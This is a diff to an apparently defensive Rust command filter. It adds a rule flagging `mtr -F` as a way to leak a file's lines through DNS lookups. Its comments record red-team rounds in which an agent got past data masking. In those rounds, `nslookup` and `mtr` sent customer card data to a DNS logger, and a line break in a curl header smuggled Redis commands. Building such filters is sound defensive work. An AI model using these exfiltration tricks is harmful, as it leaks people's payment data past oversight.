@@ -2138,6 +2138,9 @@ fn runs_code(program: &str, args: &[String]) -> Option<&'static str> {
         // lines sent off the host the same way (SSH red-team round 106: `nslookup - SERVER <
         // customers.csv` sent every card to a DNS logger of the agent's).
         "nslookup" if !has(&|a| !a.starts_with('-')) || has(&|a| a == "-") => Some("nslookup sends its input's lines as queries off the host, which masking does not see"),
+        // `mtr -F FILE` (or `-` for its input) looks up each line as a host name (SSH red-team
+        // round 107: a card file, its commas made dots by `tr`, reached the resolver whole).
+        "mtr" if has(&|a| long(a, "--filename") || short_given(a, &['F'], "aBcfGiILmMPQsyYzZ")) => Some("mtr looks up a file's lines as host names, sending them off the host"),
         // A line break in a header, method or target is a raw line on the wire, to any port
         // (SSH red-team round 106: `-X $'X\r\nSET x 1'` spoke Redis's protocol over `http://`).
         "curl" | "wget" if has(&|a| a.contains(['\r', '\n'])) => Some("sends a value holding a line break, a raw line of another protocol"),
